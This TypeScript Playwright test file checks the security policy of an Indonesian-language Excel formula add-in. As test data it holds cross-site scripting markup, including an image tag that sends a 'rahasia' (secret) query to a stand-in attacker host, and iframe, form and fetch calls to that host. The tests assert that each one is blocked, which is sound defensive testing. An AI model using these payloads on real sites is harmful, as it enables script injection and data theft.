import { afterAll, beforeAll, describe, expect, jest, test } from "@jest/globals";
import type { Frame } from "playwright-core";
import { fileOf } from "../excel/open-layout";
import { layOut, officeForm, type Entry } from "../form/form-layout";
import { HARMFUL } from "../hostile/texts";
import { recalculate, save } from "./bench";
import { startBrowser } from "./browser";
import { MICROSOFT, openOfficeBench, type OfficeBench } from "./office-page";

const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
jest.setTimeout(180_000);
const browser = await startBrowser();
const inBrowser = browser === null ? describe.skip : describe;

/** One indicator that is computed, one whose formula can't be told, and hostile texts in a third. */
function entries(): readonly Entry[] {
  const [, first] = officeForm();
  if (first === undefined) throw new Error("The office's form is empty");
  const asked = {
    ...{ ...first, number: "3", indicator: "Persentase pengaduan yang tuntas", inputs: [9, 12] },
    formula: "(Perkara selesai/ditangani dibagi pengaduan yang masuk) x 100%",
    variables: ["Laporan rampung", "Laporan warga"],
  };
  const markup = HARMFUL.filter((text) => text.includes("<")).join(" ");
  return [first, asked, { ...first, number: "4", indicator: markup, name: markup, definition: markup }];
}

inBrowser("the pane as it is built for Excel, under its policy", () => {
  let bench: OfficeBench;

  beforeAll(async () => {
    if (browser === null) return;
    bench = await openOfficeBench(browser);
  });

  afterAll(async () => {
    await bench.close();
    await browser?.close();
  });

  function paneFrame(): Frame {
    const frame = bench.page.frames().find((each) => each.url().includes("taskpane.html"));
    if (frame === undefined) throw new Error("The pane has no frame");
    return frame;
  }

  test("opens a form, calculates it, asks, explains and saves", async () => {
    const { page, pane } = bench;
    const buffer = Buffer.from(await fileOf(layOut(entries()).grid));
    await page.locator("#file").setInputFiles({ name: "uji.xlsx", mimeType: XLSX, buffer });
    await page.getByText("uji.xlsx", { exact: true }).waitFor();
    await pane.getByRole("button", { name: "Periksa", exact: true }).click();
    await recalculate(bench, "2 dari 3 indikator terhitung, 1 formula perlu dipastikan.");
    await pane.getByRole("button", { name: /^Pastikan formula/ }).click();
    await pane.getByRole("combobox").first().selectOption({ index: 1 });
    await pane.getByRole("combobox").nth(1).selectOption({ index: 2 });
    await pane.getByRole("button", { name: "Pakai jawaban ini", exact: true }).click();
    await pane.getByText("3 dari 3 indikator terhitung.", { exact: true }).waitFor();
    await pane.getByText("Cara hitung").first().click();
    await pane
      .getByText(/^9 ÷ 13/)
      .first()
      .waitFor();
    const saved = Buffer.from((await save(page)).bytes);
    await page.locator("#file").setInputFiles({ name: "tersimpan.xlsx", mimeType: XLSX, buffer: saved });
    await page.getByText("tersimpan.xlsx", { exact: true }).waitFor();
    await pane.getByRole("button", { name: "Periksa", exact: true }).waitFor();
    await recalculate(bench, "3 dari 3 indikator terhitung.");
  });

  test("breaks no policy and reports no error", () => {
    expect(bench.problems).toEqual([]);
  });

  test("asks nobody for anything but Microsoft, and Microsoft for office.js alone", () => {
    expect([...new Set(bench.foreignRequests)].sort()).toEqual(
      ["office.js", "excel-web-16.00.js", "id-id/office_strings.js", "telemetry/oteljs_agave.js"]
        .map((name) => MICROSOFT + name)
        .sort(),
    );
  });

  test("keeps nothing in the browser: what is there is office.js's, and says nothing of a workbook", async () => {
    for (const frame of bench.page.frames()) {
      const { local, session, ...others } = await frame.evaluate(async () => ({
        local: Object.entries(localStorage),
        session: Object.entries(sessionStorage),
        databases: await indexedDB.databases(),
        caches: await caches.keys(),
        workers: (await navigator.serviceWorker.getRegistrations()).length,
        cookies: document.cookie,
      }));
      expect(others).toEqual({ databases: [], caches: [], workers: 0, cookies: "" });
      expect(local).toEqual([["Office API client", expect.stringMatching(/^[0-9a-f-]{36}$/)]]);
      expect(session).toEqual([["hostInfoValue", expect.stringMatching(/^Excel\$Web\$16\.01\$id-ID\$/)]]);
    }
    expect(await bench.context.cookies()).toEqual([]);
  });

  test("makes no element of what stands in the sheet", async () => {
    const { pane } = bench;
    expect(await pane.getByText("<script>alert(1)</script>").count()).toBeGreaterThan(0);
    expect(await pane.locator("img, [onload], [onerror], script:not([src])").count()).toBe(0);
  });

  test.each([
    ["script-src-attr", '<img src="assets/icon-16.png" onload="globalThis.ran = true">'],
    ["img-src", '<img src="https://penyerang.test/?rahasia">'],
    ["style-src-elem", "<style>body { background: red }</style>"],
    ["style-src-attr", '<p style="color: red">x</p>'],
    ["frame-src", '<iframe src="https://penyerang.test/"></iframe>'],
    ["object-src", '<object data="https://penyerang.test/"></object>'],
    ["base-uri", '<base href="https://penyerang.test/">'],
  ])("stops by its %s what markup that slipped in would try", async (directive, markup) => {
    const frame = paneFrame();
    const before = bench.problems.length;
    await frame.evaluate((html) => {
      const holder = document.createElement("div");
      holder.innerHTML = html;
      document.body.append(holder);
    }, markup);
    await bench.page.waitForTimeout(300);
    expect(bench.problems.slice(before).join(" ")).toContain(`blocked by policy: ${directive}`);
    expect(await frame.evaluate(() => "ran" in globalThis)).toBe(false);
    expect(bench.requests.filter((url) => url.includes("penyerang"))).toEqual([]);
  });

  test("sends nothing by script, not even to its own address", async () => {
    const sent = await paneFrame().evaluate(() =>
      Promise.allSettled([fetch("https://penyerang.test/"), fetch("taskpane.html")]),
    );
    expect(sent.map(({ status }) => status)).toEqual(["rejected", "rejected"]);
  });

  test("sends no form", async () => {
    await paneFrame().evaluate(() => {
      const form = document.createElement("form");
      form.action = "https://penyerang.test/";
      document.body.append(form);
      form.requestSubmit();
    });
    await bench.page.waitForTimeout(300);
    expect(bench.problems.join(" ")).toContain("form-action 'none'");
    expect(bench.requests.filter((url) => url.includes("penyerang"))).toEqual([]);
  });
});
